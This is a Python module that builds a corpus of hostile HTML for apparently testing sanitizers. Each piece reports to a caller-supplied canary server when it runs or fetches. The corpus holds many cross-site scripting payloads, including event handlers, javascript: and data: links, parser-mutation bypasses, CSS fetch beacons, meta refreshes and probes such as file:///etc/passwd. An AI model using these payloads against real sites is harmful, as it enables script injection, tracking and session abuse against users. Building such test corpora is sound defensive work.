"""HTML that tries to run script or to fetch something from where it is read: known techniques, written anew.

`{js}` stands for a program that reports itself, `{url}` for an address that reports whoever asks for it.
"""

JS = "(new(Image)).src=`{url}`,console.log(`it-ran`)"
"""Needs neither quotes nor blanks nor angle brackets, so it stands in any place."""

SCRIPTS = """
<script>{js}</script>
<SCRIPT type=text/javascript>{js}</SCRIPT>
<script src="{url}"></script>
<script/x src={url}></script >
<script type=module>{js}</script>
<script type=importmap>{"imports":{"a":"{url}"}}</script><script type=module>import "a"</script>
<scr<script>ipt>{js}</scr</script>ipt>
<script>{js}
<<script>{js}//<</script>
<script\f>{js}</script\f>
<!--><script>{js}</script>-->
<!-- --!><script>{js}</script> -->
<!--[if gte IE 4]><script>{js}</script><![endif]-->
<![CDATA[<script>{js}</script>]]>
<?xml-stylesheet href="javascript:{js}"?><script>{js}</script>
</title></textarea></style><script>{js}</script>
<template><script>{js}</script></template>
<div><template shadowrootmode=open><script>{js}</script><img src=x onerror={js}></template></div>
<svg><script>{js}</script></svg>
<svg><script href="{url}"/></svg>
<svg><script xlink:href=data:text/javascript,{js}></script></svg>
<math><script>{js}</script></math>
<noscript><script>{js}</script></noscript>
<noembed><script>{js}</script></noembed><plaintext><script>{js}</script>
"""

HANDLERS = """
<img src=x onerror={js}>
<IMG SRC=x OnErRoR="{js}">
<img/src=x/onerror={js}//>
<img	src=x
onerror	=
"{js}">
<img src=x onerror=&#40;new&#40;Image&#41;&#41;&#46;src&#61;&#96;{url}&#96;>
<img src=x:x alt=``onerror={js}>
<img src="x` `<script>{js}</script>"` `>
<img title='a' onerror={js} src=x title="b">
<image src=x onerror={js}>
<img srcset=x onerror={js}>
<body onload={js}>
<body onpageshow={js} onfocus={js}>
<html onmouseover={js}><p>over here</html>
<frameset onload={js}><frame src=x></frameset>
<svg onload={js}>
<svg/onload={js}//
<svg><animate onbegin={js} attributeName=x dur=1s>
<svg><image href=x onerror={js}>
<input autofocus onfocus={js}>
<select autofocus onfocus={js}><option>a</select>
<textarea autofocus onfocus={js}>a</textarea>
<button autofocus onfocus={js}>a</button>
<p tabindex=1 autofocus onfocus={js}>a</p>
<details open ontoggle={js}><summary>a</summary>b</details>
<button popovertarget=p>a</button><div popover id=p onbeforetoggle={js}>b</div>
<video src=x onerror={js}></video>
<video><source src=x onerror={js}></video>
<audio src=x onerror={js} onloadstart={js}></audio>
<object data=x onerror={js}></object>
<iframe onload={js}></iframe>
<link rel=stylesheet href=x onerror={js}>
<style onload={js}>p{}</style>
<marquee onstart={js} onfinish={js} loop=1 width=0>a</marquee>
<p style="animation:x 1s" onanimationstart={js}>a</p><style>@keyframes x{}</style>
<p style="content-visibility:auto" oncontentvisibilityautostatechange={js}>a</p>
<p onpointerenter={js} onmouseover={js} onclick={js} onwheel={js}>a</p>
<a href=# onclick={js} onfocus={js}>a</a>
<xss onpointerover={js} contenteditable onblur={js}>a</xss>
<table onmouseover={js}><tr onclick={js}><td onfocus={js} tabindex=0>a</table>
<font color="x" onmouseover="{js}" size="7">a</font>
<p hx-on:load="{js}" hx-get="{url}" hx-trigger=load data-hx-get="{url}" hx-ext=x>a</p>
<div data-live="{url}" data-live-part id=said data-said=1>a</div>
"""

LINKS = """
<a href="javascript:{js}">a</a>
<a href="JaVaScRiPt:{js}">a</a>
<a href="java&Tab;script&colon;{js}">a</a>
<a href="java&NewLine;script:{js}">a</a>
<a href="&#1;javascript:{js}">a</a>
<a href=" &#14; javascript:{js}">a</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{js}">a</a>
<a href="&#0000106avascript:{js}">a</a>
<a href="javascript://%0a{js}">a</a>
<a href="vbscript:MsgBox(1)">a</a>
<a href="data:text/html,<script>{js}</script>">a</a>
<a href="data:text/html;base64,PHNjcmlwdD5hPC9zY3JpcHQ+">a</a>
<a href="view-source:javascript:{js}">a</a>
<a href="blob:{url}">a</a>
<a xlink:href="javascript:{js}">a</a>
<svg><a href="javascript:{js}"><text y=20>a</text></a></svg>
<svg><a><animate attributeName=href values="javascript:{js}"/><text y=20>a</text></a></svg>
<svg><set attributeName=onmouseover to="{js}"/></svg>
<math href="javascript:{js}">a</math>
<math><maction actiontype="statusline#{url}" xlink:href="javascript:{js}">a</maction></math>
<map name=m><area href="javascript:{js}" shape=default></map><img usemap=#m src=x>
<form action="javascript:{js}"><input type=submit></form>
<form id=f></form><button form=f formaction="javascript:{js}">a</button>
<form action="{url}" method=post><input name=a autofocus><input type=image src="{url}"></form>
<isindex action="javascript:{js}" type=image>
<base href="javascript:{js}//"><a href="#">a</a>
<iframe src="javascript:{js}"></iframe>
<iframe srcdoc="<script>{js}</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror={js}&gt;"></iframe>
<object data="javascript:{js}"></object>
<embed src="javascript:{js}">
<img src="javascript:{js}" lowsrc="javascript:{js}" dynsrc="javascript:{js}">
<table background="javascript:{js}"><tr><td background="javascript:{js}">a</table>
<link rel=stylesheet href="javascript:{js}">
<meta http-equiv=refresh content="0;url=javascript:{js}">
<meta http-equiv=refresh content="0;url=data:text/html,<script>{js}</script>">
<a href="/pile/" target=_top ping="{url}">a</a>
"""

MUTATIONS = """
<noscript><p title="</noscript><img src=x onerror={js}>">
<style><p title="</style><img src=x onerror={js}>"></style>
<textarea><p title="</textarea><img src=x onerror={js}>">
<title><p title="</title><img src=x onerror={js}>">
<xmp><p title="</xmp><img src=x onerror={js}>">
<iframe><p title="</iframe><img src=x onerror={js}>">
<noembed><p title="</noembed><img src=x onerror={js}>">
<svg></p><style><a id="</style><img src=x onerror={js}>">
<svg><style><img src=x onerror={js}></style></svg>
<svg><p><style><g title="</style><img src=x onerror={js}>">
<svg><desc><noscript></desc></svg><p title="</noscript><img src=x onerror={js}>">
<svg><foreignObject><p><style></p><img src=x onerror={js}></style></foreignObject></svg>
<svg><title><svg><style><a title="</style><img src=x onerror={js}>"></svg></title></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={js}&gt;">
<math><mi><p><mglyph><svg><mtext><style><a title="</style><img src=x onerror={js}>">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}>
<math><annotation-xml encoding="text/html"><style><img src=x onerror={js}></style></annotation-xml></math>
<math><annotation-xml encoding=x><svg><style><a title="</style><img src=x onerror={js}>">
<select><style></select><img src=x onerror={js}></style>
<table><caption><svg><style></caption></table><img src=x onerror={js}></style>
<a><table><a href="javascript:{js}"><td><a>x
<b><table><i><img src=x onerror={js}></b></table>
<p><svg><p><img src=x onerror={js}>
<option><style></option></select><img src=x onerror={js}></style>
<img alt="<x" title="/><img src=x onerror={js}>">
<a title='"><img src=x onerror={js}>'>a</a>
<p title="&quot;&gt;&lt;img src=x onerror={js}&gt;">a</p>
&lt;img src=x onerror={js}&gt; &amp;lt;script&amp;gt;
<output class=x id="panel-1" name=body>[goes to bank.example]</output><img name=body src=x>
<div><a href="https://x.example" title='"><script>{js}</script>'>www.y.example</a></div>
"""

STYLES = """
<p style="background:url({url})">a</p>
<p style="background-image: URL( '{url}' ) ; color:red">a</p>
<p style="background:u\\72l({url})">a</p>
<p style="background:/**/url/**/({url})">a</p>
<p style="background:url(//{host}/x)">a</p>
<p style="background-image:image-set('{url}' 1x, url({url}) 2x)">a</p>
<p style="background-image:-webkit-image-set(url({url}) 1x)">a</p>
<p style="background-image:cross-fade(url({url}), url({url}), 50%)">a</p>
<p style="--u:url({url});background:var(--u)">a</p>
<p style="list-style:url({url}) inside;display:list-item">a</p>
<p style="cursor:url({url}),auto;border-image:url({url}) 1;mask:url({url});filter:url({url}#a)">a</p>
<p style="content:url({url});shape-outside:url({url});clip-path:url({url}#x)">a</p>
<p style="width:expression({js});behavior:url({url});-moz-binding:url({url}#x)">a</p>
<p style="background:url(javascript:{js})">a</p>
<p style="font-family:x;src:url({url})">a</p>
<p style="position:fixed;inset:0;z-index:9;background:red">over everything</p>
<p style='background:"};background:url({url})'>a</p>
<p style="color:red;} @import '{url}'; p{">a</p>
<style>@import "{url}";</style>
<style>@import url({url}) layer(x) screen;</style>
<style>@font-face{font-family:x;src:url({url})} p{font-family:x}</style><p>a</p>
<style>p{background:url({url})} a[href^=h]{background:url({url})}</style><p>a <a href=https://x.example>b</a></p>
<style>@namespace url({url}); @document url({url}){p{color:red}}</style>
<style>:root{background:url({url})} ::selection{background:url({url})}</style>
<link rel=stylesheet href="{url}"><link rel="alternate stylesheet" href="{url}" title=x>
<STYLE>.x{behavior:url({url});background-image:url("javascript:{js}")}</STYLE><p class=x>a</p>
"""

FETCHES = """
<img src="{url}">
<img src=//{host}/x>
<img src="&#104;ttp://{host}/x">
<img src="\\\\{host}\\x">
<img src="http:{host}/x">
<img src=x srcset="{url} 1x, {url} 2x">
<img src="{url}" loading=eager fetchpriority=high attributionsrc="{url}">
<picture><source srcset="{url}"><img src=x></picture>
<video poster="{url}" src="{url}" autoplay></video>
<video autoplay muted><source src="{url}"><track default src="{url}"></video>
<audio src="{url}" autoplay preload=auto></audio>
<input type=image src="{url}">
<object data="{url}" type="text/html"></object>
<object><param name=movie value="{url}"><embed src="{url}"></object>
<applet code=x codebase="{url}" archive="{url}"></applet>
<iframe src="{url}"></iframe>
<frameset><frame src="{url}"></frameset>
<fencedframe config="{url}"></fencedframe><portal src="{url}"></portal>
<bgsound src="{url}"><layer src="{url}"></layer><ilayer src="{url}"></ilayer>
<body background="{url}">
<table background="{url}"><tr background="{url}"><td background="{url}">a</table>
<link rel=icon href="{url}"><link rel="apple-touch-icon" href="{url}">
<link rel=preload as=image href="{url}"><link rel=preload as=fetch href="{url}">
<link rel=prefetch href="{url}"><link rel=prerender href="{url}">
<link rel=preconnect href="{url}"><link rel=dns-prefetch href="{url}">
<link rel=modulepreload href="{url}"><link rel=manifest href="{url}"><link rel=import href="{url}">
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["{url}"]}]}</script>
<meta http-equiv=refresh content="0;url={url}">
<meta http-equiv="refresh" content='0; URL="{url}"'><meta http-equiv=link content="<{url}>; rel=preload">
<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri {url}">
<meta http-equiv="Set-Cookie" content="a=b"><meta name=referrer content=unsafe-url><img src="{url}">
<base href="{url}/"><img src="relative.png"><a href="relative">a</a>
<base target=_top><a href="{url}">a</a>
<html manifest="{url}"><head profile="{url}"><p>a
<svg><image href="{url}"/><image xlink:href="{url}"/></svg>
<svg><use href="{url}#a"/><feImage href="{url}"/><font-face-uri href="{url}"/></svg>
<svg><rect fill="url({url}#a)" filter="url({url}#b)" width=9 height=9 /></svg>
<svg><style>@import url({url})</style><foreignObject><img src="{url}"></foreignObject></svg>
<blockquote cite="{url}"><q cite="{url}">a</q></blockquote><img longdesc="{url}" usemap="{url}">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{js}'><image href='{url}'/></svg>">
<img src="data:text/html,<script>{js}</script>"><img src="data:image/png;base64,<script>{js}</script>">
<img src="cid:drawing"><img src="cid:page"><object data="cid:page"></object><iframe src="cid:page"></iframe>
<img src="mhtml:{url}!x"><img src="file:///etc/passwd"><img src="filesystem:{url}"><img src="about:blank">
<img src="/attachments/1/"><img src="/pile/"><img src="../../logout/">
"""

GROUPS = {
    "script": SCRIPTS,
    "handler": HANDLERS,
    "link": LINKS,
    "mutation": MUTATIONS,
    "style": STYLES,
    "fetch": FETCHES,
}


def hostile_html(canary: str) -> dict[str, str]:
    """Return every piece by its name; what it runs or asks for tells its name to `canary`, an address of a server."""
    found: dict[str, str] = {}
    for group, pieces in GROUPS.items():
        for number, piece in enumerate(_pieces(pieces)):
            name = f"{group}-{number}"
            url = f"{canary}/{name}"
            host = canary.removeprefix("http://")
            found[name] = piece.replace("{js}", JS).replace("{url}", url).replace("{host}", host)
    return found


def _pieces(text: str) -> list[str]:
    """Return one piece a line; one that goes over several lines goes on where a line opens no element."""
    pieces: list[str] = []
    for line in text.strip("\n").split("\n"):
        if line.startswith(("<", "&")) or not pieces:
            pieces.append(line)
        else:
            pieces[-1] += f"\n{line}"
    return pieces
